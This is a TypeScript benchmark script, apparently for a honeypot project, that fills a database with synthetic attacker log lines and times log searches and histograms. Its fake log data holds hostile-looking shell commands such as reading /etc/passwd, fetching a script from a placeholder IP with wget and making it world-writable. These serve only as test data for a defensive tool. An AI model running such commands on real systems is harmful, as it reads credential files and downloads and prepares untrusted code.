/**
 * How long the reads of the live logs take with many lines: `bun scripts/measure-logs.ts [--lines=1000000]
 * [--database=<url of an empty database>] [--filled: by an earlier run]
 * [--times=40] [--only=<search>]`. Fills the database by the projection itself, then asks each question many times
 * and prints what the slow ones took, and for how long the event loop stood still meanwhile.
 */
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parseArgs } from 'node:util';
import { engineOf, openDatabase } from '../src/db/database.ts';
import { migrate } from '../src/db/migrate.ts';
import { logProjection } from '../src/logs/log-projection.ts';
import { logQueryOf } from '../src/logs/query.ts';
import { histogram, listLogs } from '../src/logs/repository.ts';
import { readStats } from '../src/logs/stats.ts';
import type { LoggedEvent } from '../src/projection/projection.ts';
import { createLog } from '../src/telemetry/log.ts';

const BATCH = 500;
const START_MS = Date.parse('2026-10-22T00:00:00Z');
const SPAN_MS = 30 * 86_400_000;

const { values } = parseArgs({
  options: {
    lines: { type: 'string', default: '1000000' },
    database: { type: 'string' },
    filled: { type: 'boolean', default: false },
    times: { type: 'string', default: '40' },
    only: { type: 'string' },
  },
});
const lines = Number(values.lines);
const folder = await mkdtemp(join(tmpdir(), 'decnet-logs-'));
const url = values.database ?? `sqlite:${folder}/logs.sqlite`;
const engine = engineOf(url);
const db = openDatabase(url, createLog('warn'));
await migrate(db, engine);
const projection = logProjection(engine);

const COMMANDS = ['uname -a', 'cat /etc/passwd', 'wget http://203.0.113.5/x.sh', 'chmod 777 x.sh', 'ls -la', 'id'];
const SERVICES = ['ssh', 'ssh', 'ssh', 'http', 'http', 'smb', 'ftp', 'mysql'];
const TYPES = ['connection', 'login_attempt', 'login_attempt', 'command'];

function event(n: number): LoggedEvent {
  const service = SERVICES[n % SERVICES.length] ?? 'ssh';
  const ip = `198.51.${100 + (n % 60)}.${(n * 31) % 251}`;
  const decky = `decky-${n % 40}`;
  const event_type = TYPES[n % TYPES.length] ?? 'connection';
  const command = COMMANDS[n % COMMANDS.length] ?? 'id';
  const at = START_MS + (n / lines) * SPAN_MS;
  const secret = (n * 2_654_435_761) % 4_294_967_296;
  return {
    id: `line-${n}`,
    topic: 'system.log',
    type: event_type,
    ts: at / 1000,
    payload: {
      decky,
      service,
      event_type,
      attacker_ip: ip,
      timestamp: new Date(at).toISOString(),
      raw_line: `<134>1 ${decky} ${service}d - ${event_type} [src="${ip}" user="root" secret="${secret.toString(36)}"] ${command}`,
      fields: { username: n % 3 === 0 ? 'admin' : 'root', password: secret.toString(36), command },
      msg: command,
    },
    epoch: 'measured',
    offsetIn: () => n + 1,
  };
}

const percentile = (sorted: readonly number[], share: number) =>
  (sorted[Math.min(sorted.length - 1, Math.floor(sorted.length * share))] ?? 0).toFixed(1).padStart(8);

/** Of this process, for each turn: with SQLite all that it takes, whatever else the machine does. */
function cpuMs(since: NodeJS.CpuUsage): string {
  const { user, system } = process.cpuUsage(since);
  return ((user + system) / 1000 / Number(values.times)).toFixed(1).padStart(8);
}

async function measure(name: string, ask: (turn: number) => Promise<unknown>): Promise<void> {
  if (values.only !== undefined && !name.endsWith(` ${values.only}`)) return;
  const took: number[] = [];
  const used = process.cpuUsage();
  for (let turn = 0; turn < Number(values.times); turn += 1) {
    const began = performance.now();
    await ask(turn);
    took.push(performance.now() - began);
  }
  took.sort((a, b) => a - b);
  console.log(
    `${name.padEnd(46)}${percentile(took, 0)}${percentile(took, 0.5)}${percentile(took, 0.95)}${percentile(took, 1)}${cpuMs(used)}`,
  );
}

try {
  const began = performance.now();
  for (let first = values.filled ? lines : 0; first < lines; first += BATCH) {
    const events = Array.from({ length: Math.min(BATCH, lines - first) }, (_, index) => event(first + index));
    await db.transaction().execute((trx) => projection.apply(trx, events));
  }
  const seconds = (performance.now() - began) / 1000;
  if (!values.filled)
    console.log(`${engine}: ${lines} lines in ${seconds.toFixed(0)} s, ${Math.round(lines / seconds)} a second`);
  if (engine === 'postgres') {
    const { sql } = await import('kysely');
    await sql`analyze logs`.execute(db);
  }
  console.log(`${'milliseconds'.padEnd(46)}     min     p50     p95     max     CPU`);
  const page = (offset = 0) => ({ limit: 50, offset });
  const secret = (((Math.floor(lines / 2) * 2_654_435_761) % 4_294_967_296) as number).toString(36);
  const searches = [
    '',
    'service:ssh',
    'attacker:198.51.107.57',
    'decky:decky-7 event:command',
    'service:ssh decky:decky-7',
    'passwd',
    'decky-17',
    secret,
    'nothing-of-this-kind',
    'username:admin',
    `password:${secret}`,
    'service:mysql wget',
    'zq',
    // Common, rare, and such as never meet.
    'root',
    'root wget',
    'passwd wget',
    'decky-99',
    '"user=\\"root"',
    'service:ssh decky:decky-17',
    'service:mysql event:connection',
    'service:ssh event:command decky:decky-3',
    'service:mysql decky:decky-17 event:command',
    'attacker:198.51.107.57 service:smb',
    'username:nobody',
    'username:root wget',
    'username:admin decky:decky-17',
    'username:admin service:ftp',
    'username:nobody service:ssh',
    'command:id',
    'command:id username:admin',
  ];
  await measure('stats', () => readStats(db));
  for (const search of searches) {
    await measure(`list ${search}`, () => listLogs(db, engine, logQueryOf({ search }), page()));
  }
  await measure('list, page 500', () => listLogs(db, engine, logQueryOf({}), page(25_000)));
  await measure('list, in the middle', () => listLogs(db, engine, logQueryOf({}), page(Math.floor(lines / 2) - 100)));
  const start_time = new Date(START_MS + SPAN_MS - 3_600_000).toISOString();
  await measure('list, the last hour', () => listLogs(db, engine, logQueryOf({ start_time }), page()));
  await measure('list passwd, the last hour', () =>
    listLogs(db, engine, logQueryOf({ search: 'passwd', start_time }), page()),
  );
  await measure('histogram', () => histogram(db, engine, logQueryOf({}), 15));
  await measure('histogram, the last hour', () => histogram(db, engine, logQueryOf({ start_time }), 15));
  for (const search of ['service:ssh', 'attacker:198.51.107.57', 'passwd', 'decky:decky-7 event:command']) {
    await measure(`histogram ${search}`, () => histogram(db, engine, logQueryOf({ search }), 15));
  }
} finally {
  await db.destroy();
  await rm(folder, { recursive: true, force: true });
}
